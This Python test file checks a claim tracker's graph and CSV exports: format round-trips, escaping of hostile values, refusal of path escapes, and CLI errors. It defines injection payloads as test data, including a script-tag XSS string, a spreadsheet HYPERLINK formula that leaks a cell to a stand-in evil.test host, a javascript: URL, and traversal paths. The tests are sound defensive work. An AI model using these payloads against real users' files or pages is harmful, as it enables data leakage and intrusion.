"""Graph files re-read with the same nodes, edges and attributes; hostile values stay inert."""

from __future__ import annotations

import csv
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from defusedxml import ElementTree
from lxml import etree

from tracker.api import Tracker
from tracker.domain.story import ClaimStory
from tracker.errors import BadInput, NotFound
from tracker.export.files import GraphFormat, projection, write_graph, write_story_files
from tracker.export.graph import build_claim_graph, build_outlet_graph
from tracker.testing.stories import demo_like_story

from .support.cli_run import run_cli

HOSTILE_TITLE = "</script><script>alert(1)</script>"
FORMULA_TITLE = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
GEXF_SCHEMA = Path(__file__).parent / "fixtures" / "gexf-1.2" / "gexf.xsd"
GEXF_WRITTEN, GEXF_SCHEMA_NS = "http://www.gexf.net/1.2draft", "http://www.gexf.net/1.2"
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@pytest.fixture(scope="module")
def story() -> ClaimStory:
    return demo_like_story()


def hostile_story() -> ClaimStory:
    """The demo story with titles, names, numbers and texts an attacker or a bad page chose."""
    story = demo_like_story()
    articles = list(story.articles)
    articles[1] = replace(articles[1], title=FORMULA_TITLE, outlet="+Plus\x00 Outlet")
    articles[2] = replace(articles[2], title=HOSTILE_TITLE + "\x0b\ufffe", lag_seconds=float("nan"))
    articles[3] = replace(articles[3], title="@SUM(A1:A9)", url="javascript:alert(1)")
    articles[4] = replace(articles[4], title="-2+3", lag_seconds=float("inf"))
    edges = list(story.edges)
    edges[0] = replace(edges[0], score=float("nan"), evidence={"share": float("-inf"), "x": "\x01"})
    return replace(story, articles=tuple(articles), edges=tuple(edges))


def graphs(story: ClaimStory) -> dict[str, nx.Graph]:
    return {"claim": build_claim_graph(story), "outlet": build_outlet_graph(story)}


# ---------------------------------------------------------------- re-reading


def read_back(fmt: GraphFormat, path: Path, multigraph: bool) -> nx.Graph:
    """Read a written file back with networkx, the way a user of that format would."""
    if fmt is GraphFormat.GEXF:
        return nx.read_gexf(path)
    if fmt is GraphFormat.GRAPHML:
        return nx.read_graphml(path, edge_key_type=str, force_multigraph=multigraph)
    data = json.loads(path.read_text(encoding="utf-8"))
    if fmt is GraphFormat.CYTOSCAPE:
        return nx.cytoscape_graph(data)
    if fmt is GraphFormat.D3:
        return nx.node_link_graph(data, edges="links")
    return nx.node_link_graph(data)  # networkx's defaults, as a user would call it


# What each reader adds to every edge by itself (bookkeeping, not our data).
READER_EDGE_KEYS = {GraphFormat.CYTOSCAPE: {"source", "target", "key"}}


def edge_table(graph: nx.Graph, drop: set[str] = frozenset()) -> dict[tuple[Any, ...], dict]:
    """Edges by (source, target, kind); a reader may return a simple graph when no two edges
    share their ends (GEXF does), and the kind is the multigraph key."""
    return {
        (u, v, data.get("kind")): {a: b for a, b in data.items() if a not in drop}
        for u, v, data in graph.edges(data=True)
    }


@pytest.mark.parametrize("level", ["claim", "outlet"])
@pytest.mark.parametrize(
    "fmt",
    [
        GraphFormat.GEXF,
        GraphFormat.GRAPHML,
        GraphFormat.CYTOSCAPE,
        GraphFormat.JSON,
        GraphFormat.D3,
    ],
)
def test_every_graph_format_re_reads_with_the_same_nodes_edges_and_attributes(
    story: ClaimStory, tmp_path: Path, fmt: GraphFormat, level: str
) -> None:
    graph = graphs(story)[level]
    path = write_graph(graph, fmt, Path(f"story{fmt.suffix}"), root=tmp_path)
    again = read_back(fmt, path, graph.is_multigraph())
    expected = projection(graph, fmt)
    assert set(again.nodes) == set(graph.nodes) == set(expected.nodes)
    assert dict(again.nodes(data=True)) == dict(expected.nodes(data=True))
    drop = READER_EDGE_KEYS.get(fmt, set())
    assert edge_table(again, drop) == edge_table(expected)
    assert again.number_of_edges() == graph.number_of_edges()


@pytest.mark.parametrize("fmt", [GraphFormat.GRAPHML, GraphFormat.JSON, GraphFormat.CYTOSCAPE])
def test_the_projection_loses_nothing(story: ClaimStory, fmt: GraphFormat) -> None:
    """Decoding the JSON-encoded values of the projection gives back the graph's attributes."""
    graph = build_claim_graph(story)
    expected = projection(graph, fmt)

    def decode(data: dict[str, Any]) -> dict[str, Any]:
        out = {}
        for key, value in data.items():
            if isinstance(value, str) and value[:1] in "[{":
                value = json.loads(value)
            out[key] = value
        return out

    for node, data in graph.nodes(data=True):
        written = decode(dict(expected.nodes[node]))
        for key in ("id", "name", "value"):  # Cytoscape.js' own fields
            if fmt is GraphFormat.CYTOSCAPE:
                written.pop(key)
        assert written == data
    for u, v, k, data in graph.edges(keys=True, data=True):
        written = decode(dict(expected.edges[u, v, k]))
        written.pop("id", None)
        assert written == data


@pytest.mark.parametrize("level", ["claim", "outlet"])
def test_graphml_edge_ids_are_unique_and_the_file_still_re_reads(
    story: ClaimStory, tmp_path: Path, level: str
) -> None:
    """Gephi drops an edge whose id it has already seen; networkx keeps every edge."""
    graph = graphs(story)[level]
    path = write_graph(graph, "graphml", Path("g.graphml"), root=tmp_path)
    ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
    edges = ElementTree.parse(path).getroot().findall("g:graph/g:edge", ns)
    ids = [edge.get("id") for edge in edges]
    assert len(edges) == graph.number_of_edges() > 1
    assert all(ids) and len(set(ids)) == len(ids)
    again = nx.read_graphml(path, edge_key_type=str, force_multigraph=graph.is_multigraph())
    if graph.is_multigraph():
        written = {(u, v, data["kind"]) for u, v, data in again.edges(data=True)}
        assert written == set(graph.edges(keys=True))
    else:
        assert set(again.edges) == set(graph.edges)


def test_gexf_is_dynamic_so_gephi_replays_the_spread(story: ClaimStory, tmp_path: Path) -> None:
    path = write_graph(build_claim_graph(story), "gexf", Path("s.gexf"), root=tmp_path)
    root = ElementTree.parse(path).getroot()
    ns = {"g": "http://www.gexf.net/1.2draft"}
    graph_element = root.find("g:graph", ns)
    assert graph_element.get("mode") == "dynamic" and graph_element.get("timeformat") == "date"
    nodes = graph_element.findall("g:nodes/g:node", ns)
    assert nodes and all(node.get("start") for node in nodes)
    dynamic = graph_element.find("g:attributes[@mode='dynamic'][@class='node']", ns)
    titles = {a.get("title") for a in dynamic.findall("g:attribute", ns)}
    assert titles == {"stance_over_time", "uptake_over_time"}
    northgate = next(a for a in story.articles if a.outlet == "Northgate Observer")
    node = graph_element.find(f"g:nodes/g:node[@id='article-{northgate.id}']", ns)
    spells = [v for v in node.findall("g:attvalues/g:attvalue", ns) if v.get("start")]
    values = [v.get("value") for v in spells]
    assert "asserts" in values and "disputes" in values and "noted" in values
    assert all(v.get("end") for v in spells)


def in_schema_namespace(path: Path) -> Any:
    """The written GEXF with its elements moved from the 1.2draft namespace (which networkx and
    Gephi write) into the official 1.2 schema's; nothing else changes."""
    # The file is our own output; lxml is needed for XML Schema (defusedxml has none).
    root = etree.parse(str(path), etree.XMLParser(resolve_entities=False, no_network=True))
    for element in root.iter():
        if isinstance(element.tag, str) and element.tag.startswith(f"{{{GEXF_WRITTEN}"):
            element.tag = element.tag.replace(GEXF_WRITTEN, GEXF_SCHEMA_NS, 1)
    return root


@pytest.fixture(scope="module")
def gexf_schema() -> Any:
    return etree.XMLSchema(etree.parse(str(GEXF_SCHEMA)))


@pytest.mark.parametrize("level", ["claim", "outlet"])
def test_gexf_is_valid_against_the_gexf_1_2_schema_with_weights(
    story: ClaimStory, tmp_path: Path, level: str, gexf_schema: Any
) -> None:
    graph = graphs(story)[level]
    path = write_graph(graph, "gexf", Path("g.gexf"), root=tmp_path)
    document = in_schema_namespace(path)
    assert gexf_schema.validate(document), [str(e) for e in gexf_schema.error_log]
    ns = {"g": GEXF_SCHEMA_NS}
    if level == "claim":  # the dynamic attributes (spells over time) are part of what validated
        assert document.findall("g:graph/g:attributes[@mode='dynamic']", ns)
        assert document.findall("g:graph/g:nodes/g:node/g:attvalues/g:attvalue[@start]", ns)
    weights = {
        edge.get("id"): edge.get("weight")
        for edge in document.iterfind("g:graph/g:edges/g:edge", ns)
    }
    assert len(weights) == graph.number_of_edges()
    edges = graph.edges(keys=True, data=True) if level == "claim" else graph.edges(data=True)
    for edge in edges:
        data = edge[-1]
        expected = data.get("score", data.get("count"))
        written = weights[f"{edge[0]}->{edge[1]}" + (f":{edge[2]}" if level == "claim" else "")]
        assert (written is None) if expected is None else float(written) == pytest.approx(expected)
    assert any(w is not None for w in weights.values())
    # The schema is strict where networkx is not: the attribute networkx used to add fails it.
    document.find("g:graph", ns).set("name", "")
    assert not gexf_schema.validate(document)


# ---------------------------------------------------------------- rows of mentions


def decode_cell(text: str) -> Any:
    """A CSV cell as pandas users would clean it: the formula guard dropped, types restored."""
    if text[:2] in ("'=", "'+", "'-", "'@", "'\t", "'\r"):
        return text[1:]
    if text in ("true", "false"):
        return text == "true"
    if text[:1] in "[{":
        return json.loads(text)
    try:
        return float(text)
    except ValueError:
        return text


@pytest.mark.parametrize("fmt", [GraphFormat.CSV, GraphFormat.JSONL])
def test_mention_rows_rebuild_the_articles_and_their_sources(
    story: ClaimStory, tmp_path: Path, fmt: GraphFormat
) -> None:
    graph = build_claim_graph(story)
    path = write_graph(graph, fmt, Path(f"m{fmt.suffix}"), root=tmp_path)
    text = path.read_text(encoding="utf-8")
    if fmt is GraphFormat.CSV:
        rows = [
            {k: decode_cell(v) for k, v in row.items() if v != ""}
            for row in csv.DictReader(text.splitlines())
        ]
    else:
        rows = [json.loads(line) for line in text.splitlines()]
    articles = {n: d for n, d in graph.nodes(data=True) if d["kind"] == "article"}
    assert {row["id"] for row in rows} == set(articles)
    rebuilt = {
        (source, row["id"], kind)
        for row in rows
        for source, kind in zip(row["sources"], row["source_kinds"], strict=True)
    }
    provenance = {
        (u, v, k) for u, v, k in graph.edges(keys=True) if v in articles and u in articles
    }
    assert rebuilt == provenance
    for row in rows:
        data = articles[row["id"]]
        assert row["claim"] == "ai-code"
        for key in ("outlet", "url", "title", "first_seen", "stance", "uptake", "late"):
            assert row.get(key) == data.get(key)
        assert row.get("lag_seconds") == data.get("lag_seconds")
        assert row["stance_over_time"] == data["stance_over_time"]


def test_outlet_rows_list_the_outlets_with_whom_they_took_from(
    story: ClaimStory, tmp_path: Path
) -> None:
    graph = build_outlet_graph(story)
    path = write_graph(graph, "jsonl", Path("o.jsonl"), root=tmp_path)
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [row["id"] for row in rows] == list(graph.nodes)
    brindle = next(row for row in rows if row["id"] == "Brindle County Register")
    assert set(brindle["sources"]) == {"Coastal Press Wire", "The Harbor Ledger"}


# ---------------------------------------------------------------- hostile values


def refuse_constant(constant: str) -> None:
    raise AssertionError(f"a file holds {constant}")


def test_hostile_values_never_reach_a_file_raw(tmp_path: Path) -> None:
    story = hostile_story()
    written = write_story_files(story, tmp_path)
    assert {path.parent for path in written.values()} == {tmp_path.resolve()}
    for name, path in written.items():
        text = path.read_text(encoding="utf-8")
        assert not XML_ILLEGAL.search(text), name
        if path.suffix in (".gexf", ".graphml"):
            ElementTree.parse(path)  # well-formed XML
        if path.suffix in (".json", ".cyjs"):
            json.loads(text, parse_constant=refuse_constant)
        if path.suffix == ".jsonl":
            for line in text.splitlines():
                json.loads(line, parse_constant=refuse_constant)
        if path.suffix != ".html":  # the report's own script may say "Infinity"
            assert "NaN" not in text and "Infinity" not in text and "INF" not in text, name


def test_csv_cells_that_would_start_a_formula_are_escaped(tmp_path: Path) -> None:
    graph = build_claim_graph(hostile_story())
    path = write_graph(graph, "csv", Path("m.csv"), root=tmp_path)
    rows = list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))
    titles = {row["title"] for row in rows}
    assert "'" + FORMULA_TITLE in titles and FORMULA_TITLE not in titles
    assert "'@SUM(A1:A9)" in titles and "'-2+3" in titles
    assert "'+Plus Outlet" in {row["outlet"] for row in rows}
    for row in rows:
        for column, cell in row.items():
            if cell[:1] in ("=", "+", "@"):
                pytest.fail(f"{column} starts a formula: {cell!r}")
            if cell[:1] == "-":  # only numbers may start with a minus
                float(cell)


def test_nan_and_infinity_are_left_out(tmp_path: Path) -> None:
    graph = build_claim_graph(hostile_story())
    path = write_graph(graph, "json", Path("g.json"), root=tmp_path)
    data = json.loads(path.read_text(encoding="utf-8"))
    lags = {node["id"]: node.get("lag_seconds") for node in data["nodes"]}
    assert lags["article-3"] is None and lags["article-5"] is None  # NaN and inf: omitted
    first = data["edges"][0]
    assert "score" not in first and first["evidence"] == {"share": None, "x": ""}


# ---------------------------------------------------------------- paths


@pytest.mark.parametrize(
    "target", ["../escape.gexf", "sub/../../escape.gexf", "/etc/tracker-escape.gexf", "."]
)
def test_paths_outside_the_folder_are_refused(tmp_path: Path, target: str) -> None:
    root = tmp_path / "out"
    root.mkdir()
    with pytest.raises(BadInput):
        write_graph(build_claim_graph(demo_like_story()), "gexf", Path(target), root=root)
    assert not (tmp_path / "escape.gexf").exists()


def test_symlinks_out_of_the_folder_are_refused(tmp_path: Path) -> None:
    root, outside = tmp_path / "out", tmp_path / "elsewhere"
    root.mkdir()
    outside.mkdir()
    (root / "folder-link").symlink_to(outside, target_is_directory=True)
    (root / "file-link.json").symlink_to(outside / "victim.json")
    graph = build_outlet_graph(demo_like_story())
    for target in ("folder-link/x.json", "file-link.json"):
        with pytest.raises(BadInput):
            write_graph(graph, "json", Path(target), root=root)
    assert list(outside.iterdir()) == []


def test_writes_inside_the_folder_make_subfolders_and_leave_no_temporary_files(
    tmp_path: Path,
) -> None:
    graph = build_claim_graph(demo_like_story())
    path = write_graph(graph, "graphml", Path("a/b/claim.graphml"), root=tmp_path)
    assert path == (tmp_path / "a/b/claim.graphml").resolve() and path.stat().st_size > 0
    absolute = write_graph(graph, "json", tmp_path / "claim.json", root=tmp_path)
    assert absolute.exists()
    leftovers = [p for p in tmp_path.rglob("*") if p.name.startswith(".")]
    assert leftovers == []
    with pytest.raises(BadInput):
        write_graph(graph, "json", Path("a"), root=tmp_path)  # a folder
    with pytest.raises(BadInput):
        write_graph(graph, "dot", Path("x.dot"), root=tmp_path)


def test_an_unwritable_place_is_bad_input_not_a_crash(tmp_path: Path) -> None:
    (tmp_path / "a-file").write_text("not a folder", encoding="utf-8")
    with pytest.raises(BadInput, match="cannot write"):
        write_graph(
            build_outlet_graph(demo_like_story()), "csv", Path("a-file/x.csv"), root=tmp_path
        )


# ---------------------------------------------------------------- the commands


@pytest.fixture
def cli_story(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ClaimStory:
    """The demo story served by `Tracker.story` (until claims are stored), in a fresh folder."""
    monkeypatch.setenv("TRACKER_DATA_DIR", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    story = demo_like_story()

    def story_for(tracker: object, slug: str) -> ClaimStory:
        if slug != story.claim.slug:
            raise NotFound(f"claim {slug!r} is not stored")
        return story

    monkeypatch.setattr(Tracker, "story", story_for)
    return story


@pytest.mark.parametrize("fmt", list(GraphFormat))
def test_the_graph_command_writes_each_format(
    cli_story: ClaimStory, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: GraphFormat
) -> None:
    code, out, err = run_cli(["--db", "t.db", "graph", "ai-code", "--format", fmt.value], capsys)
    assert code == 0, err
    written = tmp_path / f"ai-code{fmt.suffix}"
    assert f"wrote {written.resolve()}" in err and written.stat().st_size > 0
    assert out == ""  # data on stdout, messages on stderr
    (tmp_path / "o").mkdir()
    code, out, err = run_cli(
        ["--db", "t.db", "graph", "ai-code", "-f", fmt.value, "--level", "outlet", "-o", "o/x"],
        capsys,
    )
    assert code == 0, err
    assert "outlet level" in err
    assert (tmp_path / "o/x").stat().st_size > 0


def test_the_report_command_writes_the_page_and_its_figures(
    cli_story: ClaimStory, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run_cli(["--db", "t.db", "report", "ai-code", "-o", "r.html"], capsys)
    assert code == 0, err
    assert (tmp_path / "r.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert "16 repeats, 50% picked up the correction" in err and out == ""


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["graph", "ai-code", "--out-dir", "s", "-o", "../out.gexf"], "outside the output folder"),
        (["graph", "ai-code", "-o", "missing/out.gexf"], "folder"),
        (
            ["report", "ai-code", "-o", "/tmp/elsewhere.html", "--out-dir", "s"],
            "outside the output",
        ),
        (["graph", "no-such-claim"], "'no-such-claim' is not stored"),
    ],
)
def test_commands_refuse_escapes_and_unknown_claims_in_one_line(
    cli_story: ClaimStory, capsys: pytest.CaptureFixture[str], args: list[str], needle: str
) -> None:
    code, _, err = run_cli(["--db", "t.db", *args], capsys)
    lines = [line for line in err.splitlines() if line.strip()]
    assert code == 2 and len(lines) == 1 and lines[0].startswith("error: ") and needle in err
    assert not Path("/tmp/elsewhere.html").exists()


def test_an_unknown_format_is_a_usage_error(
    cli_story: ClaimStory, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run_cli(["--db", "t.db", "graph", "ai-code", "--format", "dot"], capsys)
    assert code == 2 and "Traceback" not in err and "dot" in err


def test_an_unknown_claim_is_one_line_and_exit_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    for command in (["report", "ai-code"], ["graph", "ai-code", "--format", "json"]):
        code, _, err = run_cli(["--db", "t.db", *command], capsys)
        assert code == 2 and err.startswith("error: ") and "'ai-code'" in err
        assert len(err.strip().splitlines()) == 1
    assert not list(tmp_path.glob("*.html")) and not list(tmp_path.glob("*.json"))


def test_json_files_are_in_the_shape_cytoscape_js_and_d3_load(
    story: ClaimStory, tmp_path: Path
) -> None:
    graph = build_claim_graph(story)
    cyto = json.loads(write_graph(graph, "cytoscape", Path("g.cyjs"), root=tmp_path).read_text())
    nodes, edges = cyto["elements"]["nodes"], cyto["elements"]["edges"]
    node_ids = [n["data"]["id"] for n in nodes]
    edge_ids = [e["data"]["id"] for e in edges]
    assert all(isinstance(i, str) for i in node_ids + edge_ids)
    assert len(set(node_ids + edge_ids)) == len(node_ids) + len(edge_ids)  # ids unique overall
    assert all({e["data"]["source"], e["data"]["target"]} <= set(node_ids) for e in edges)
    assert isinstance(cyto["data"], dict) and cyto["data"]["claim"] == "ai-code"
    d3 = json.loads(write_graph(graph, "d3", Path("g.d3.json"), root=tmp_path).read_text())
    ids = {n["id"] for n in d3["nodes"]}
    assert len(ids) == graph.number_of_nodes() and len(d3["links"]) == graph.number_of_edges()
    assert all(link["source"] in ids and link["target"] in ids for link in d3["links"])
    assert "edges" not in d3
    plain = json.loads(write_graph(graph, "json", Path("g.json"), root=tmp_path).read_text())
    assert "links" not in plain and len(plain["edges"]) == graph.number_of_edges()
    again = nx.node_link_graph(plain)  # no arguments: what networkx reads by default
    assert again.is_multigraph() and again.is_directed()
    assert set(again.edges(keys=True)) == set(graph.edges(keys=True))


def test_the_report_command_says_when_no_correction_is_registered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("TRACKER_DATA_DIR", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    story = replace(demo_like_story(), corrections=())
    monkeypatch.setattr(Tracker, "story", lambda tracker, slug: story)
    code, _out, err = run_cli(["--db", "t.db", "report", "ai-code", "-o", "r.html"], capsys)
    assert code == 0, err
    assert "no correction registered" in err and "picked up" not in err
